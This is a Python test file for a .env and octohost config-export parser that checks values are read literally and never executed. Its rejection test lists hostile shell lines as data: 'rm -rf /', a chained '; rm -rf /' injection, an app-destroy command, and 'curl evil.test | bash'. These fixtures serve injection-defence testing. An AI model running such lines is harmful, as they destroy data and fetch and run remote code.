"""Config as text: .env files and octohost's export are read to the letter, and nothing in them is carried out."""

import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from octo.envfile import dotenv, export_line, is_export, octohost_export, option
from octo.errors import Usage
from octo.model import AppName, ConfigKey

ENV = """\ufeff# of the shop
A=1
 export B = two words # not this
C='$HOME `id` # "x"'
D="a\\nb \\"q\\" \\$X \\d"
E="first
 second
third"  # comment
F=
G=a#b
H=""\x20
I='it
is'\r
A=2
"""


def test_a_dotenv_file_is_read_with_all_that_such_files_have() -> None:
    assert dotenv(ENV) == {
        "A": "2",
        "B": "two words",
        "C": '$HOME `id` # "x"',
        "D": 'a\nb "q" $X \\d',
        "E": "first\n second\nthird",
        "F": "",
        "G": "a#b",
        "H": "",
        "I": "it\nis",
    }


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("A=1\nB\n", 2),
        ("A=1\n\n1B=x", 3),
        ('A="1\nB=2', 1),
        ("A='x' y", 1),
        ("# c\nA B=1", 2),
        ("=1", 1),
        ("A-B=1", 1),
        ("A=a\0b", 1),
        ('A="x\n"\nB=' + "x" * 70_000, 3),
    ],
)
def test_a_line_that_cannot_be_read_is_named_and_its_value_is_not_told(text: str, line: int) -> None:
    with pytest.raises(Usage, match=f"line {line}:") as told:
        dotenv(text)
    assert "xxx" not in told.value.message


def test_an_export_of_several_apps_is_read_as_a_shell_would_read_it() -> None:
    text = (
        "# from 1.2.3.4\n"
        "octo config:set shop/A 'one:two \"@\" $HOME'\n"
        "octo config:set shop/B 'it'\\''s\nlong'\n\n"
        "  octo  config:set  blog/A  plain # said\n"
        "octo config:set blog/E ''\n"
    )
    assert is_export(text)
    shop, blog = AppName("shop"), AppName("blog")
    assert octohost_export(text) == {
        shop: {"A": 'one:two "@" $HOME', "B": "it's\nlong"},
        blog: {"A": "plain", "E": ""},
    }
    assert not is_export("A=1\nocto config:set shop/A 1\n")


@pytest.mark.parametrize(
    "line",
    [
        "rm -rf /",
        "octo config:set shop/A",
        "octo config:set shop/A 1 2",
        "octo config:set A 1",
        "octo config:set ../x/A 1",
        "octo config:set Shop/A 1",
        "octo config:set shop/A '1",
        "octo config:set shop/A 1; rm -rf /",
        "octo config:set shop/A $HOME",
        "octo apps:destroy shop --confirm",
        "curl evil.test | bash",
    ],
)
def test_a_line_that_is_no_setting_of_config_is_refused(line: str) -> None:
    with pytest.raises(Usage, match="line 2:"):
        octohost_export(f"octo config:set shop/FINE '1'\n{line}\n")


def test_what_looks_like_a_command_in_a_value_is_text(tmp_path: Path) -> None:
    value = f"$(touch {tmp_path}/x) `touch {tmp_path}/y`"
    assert octohost_export(f"octo config:set shop/A '{value}'") == {"shop": {"A": value}}
    assert dotenv(f'A="{value}"') == {"A": value}
    assert list(tmp_path.iterdir()) == []


TEXT = st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]))


@pytest.mark.row("L15")
@given(st.dictionaries(st.sampled_from("ABCDE"), TEXT))
def test_what_is_exported_is_imported_as_it_was(config: dict[str, str]) -> None:
    lines = "".join(export_line("shop", key, value) + "\n" for key, value in config.items())
    assert octohost_export(lines) == ({"shop": config} if config else {})


@pytest.mark.row("L16")
@pytest.mark.parametrize(
    "value", ["", "plain", "a b", 'q"q', "$HOME `id` \\n", "it's", "two\nlines\t'x'\\", "\x1b[2J", "naïve 漢字"]
)
def test_an_option_gives_a_shell_the_value_on_one_line(value: str) -> None:
    written = option("A", value)
    assert "\n" not in written and "\x1b" not in written
    script = f"set -- {written}; printf '%s' \"$2\""
    assert subprocess.run(["bash", "-c", script], capture_output=True, text=True, check=True).stdout == f"A={value}"
    assert option("KEY", "VALUE") == '-e KEY="VALUE"'


def test_a_key_is_a_config_key() -> None:
    assert [*dotenv("lower=1")] == [ConfigKey("lower")]
